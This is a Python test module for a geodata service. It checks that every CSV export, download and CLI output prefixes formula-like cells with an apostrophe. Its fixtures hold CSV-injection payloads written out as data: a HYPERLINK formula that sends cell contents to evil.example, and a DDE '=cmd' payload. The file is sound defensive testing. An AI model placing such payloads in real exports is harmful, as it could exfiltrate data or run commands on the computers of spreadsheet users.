"""No export hands a spreadsheet a formula: on a private copy of the demo whose area, facility and indicator
names and import file names begin with =, +, -, @, tab or carriage return, every CSV the service writes (the
data twins of pages and APIs, the downloads in both styles, the CLI's --csv) shows those cells with a
leading apostrophe (OWASP), while numbers, negative ones included, stay plain numbers."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from geo.grid import GridImportOptions, import_grid
from service.app import create_app
from tests.conftest import bearer, make_settings, private_engine
from tests.test_grid import berlin_grid
from web.tabular_export import FORMULA_STARTS, GERMAN, STANDARD, csv_text

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+SUM(1;1)", "-2+3", "@SUM(A1:A9)", "\t=1+1",
         "\r=1+1"]
ENDPOINTS = [
    "/explorer?indicator=S1&f=csv",
    "/explorer?indicator=S1&period=2020-12-31&compare=2018-12-31&f=csv",
    "/areas?f=csv",
    "/areas/plr/01100101?f=csv",
    "/api/indicators?f=csv",
    "/api/indicators/S1?f=csv",
    "/api/coverage?f=csv",
    "/api/coverage?indicator=S1&level=plr&period=2020-12-31&f=csv",
    "/api/areas/01100101/history?level=plr&f=csv",
    "/api/indices/mss_2021_gesamtindex/results?f=csv",
    "/api/indices/mss_2021_gesamtindex/attention-areas?f=csv",
    "/api/aggregate/derivations?level=bez&f=csv",
    "/api/aggregate/catchments?layer=kitas&radius=500&indicator=EW_U6&capacity=e_platz&f=csv",
    "/api/aggregate/points?layer=kitas&f=csv",
    "/api/aggregate/supply?f=csv",
    "/api/aggregate/grid?layer=zensus_1km&variable=Einwohner&f=csv",
    "/api/programmes/hostile/evaluation?f=csv",
    "/collections/plr/download?format=csv",
    "/collections/plr/download?format=csv&csv_style=de",
]


@pytest.fixture(scope="module")
def hostile(pg_server, demo_template, tmp_path_factory):
    """(engine, client) on a demo copy with formula-like names everywhere, a grid layer and a programme."""
    with private_engine(pg_server, demo_template, prefix="dm_test_formulas") as engine:
        path = tmp_path_factory.mktemp("grid") / "zensus_1km.csv"
        berlin_grid(engine, 1000)[["GITTER_ID", "Einwohner"]].to_csv(path, sep=";", index=False)
        with engine.connect() as conn:
            assert import_grid(conn, path, GridImportOptions(layer="zensus_1km")).ok
        with engine.begin() as conn:
            names = {"names": NAMES}
            conn.execute(sa.text("UPDATE area SET name = (CAST(:names AS text[]))[1 + (id % 6)::int] || key"), names)
            conn.execute(sa.text("UPDATE point_feature SET name = (CAST(:names AS text[]))[1 + (id % 6)::int]"), names)
            conn.execute(sa.text("UPDATE indicator SET name_de = '=1+1 ' || name_de"))
            conn.execute(sa.text("UPDATE import_batch SET file_name = '@' || file_name"))
        with TestClient(create_app(make_settings(rate_limit_per_minute=0), engine=engine)) as client:
            created = client.post("/api/programmes", headers=bearer(engine, "editor"), json={
                "id": "hostile", "name": "=cmd|' /C calc'!A0", "start_date": "2019-01-01", "level": "plr",
                "area_keys": ["01100101", "01100102", "01100103", "01100104"]})
            assert created.status_code == 201, created.text
            yield engine, client


def rows_of(text: str) -> list[list[str]]:
    separator = ";" if text.startswith("\ufeff") else ","
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator))


def is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    cells = [cell for row in rows for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert not formulas, f"{where}: cells a spreadsheet would evaluate: {formulas[:5]}"
    neutralised = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
    assert neutralised, f"{where}: no hostile name reached this export, so it proves nothing"


@pytest.mark.parametrize("url", ENDPOINTS)
def test_every_csv_export_neutralises_formula_cells(hostile, url):
    _engine, client = hostile
    response = client.get(url)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    assert_no_formula(rows_of(response.content.decode("utf-8")), url)


def test_negative_numbers_stay_numbers_in_a_change_map(hostile):
    _engine, client = hostile
    rows = rows_of(client.get("/explorer?indicator=S1&period=2020-12-31&compare=2018-12-31&f=csv").text)
    values = [row[rows[0].index("value")] for row in rows[1:]]
    assert any(v.startswith("-") and is_number(v) for v in values)
    assert not any(v.startswith("'") for v in values)


def test_the_cli_writes_neutralised_csv(hostile, tmp_path):
    engine, _client = hostile
    out = tmp_path / "supply.csv"
    url = engine.url.render_as_string(hide_password=False)
    result = subprocess.run([sys.executable, "-m", "service", "aggregate", "supply", "--csv", str(out)],
                            capture_output=True, text=True, timeout=300, env={**os.environ, "DATABASE_URL": url})
    assert result.returncode == 0, result.stderr
    assert_no_formula(rows_of(out.read_text(encoding="utf-8")), "aggregate supply --csv")


def test_only_text_cells_are_neutralised_in_both_styles():
    rows = [{"name": "-2+3", "value": -2.5, "count": -3, "empty": None, "plain": "Mitte"}]
    fields = ["name", "value", "count", "empty", "plain"]
    assert rows_of(csv_text(rows, fields, STANDARD))[1] == ["'-2+3", "-2.5", "-3", "", "Mitte"]
    assert rows_of(csv_text(rows, fields, GERMAN))[1] == ["'-2+3", "-2,5", "-3", "", "Mitte"]
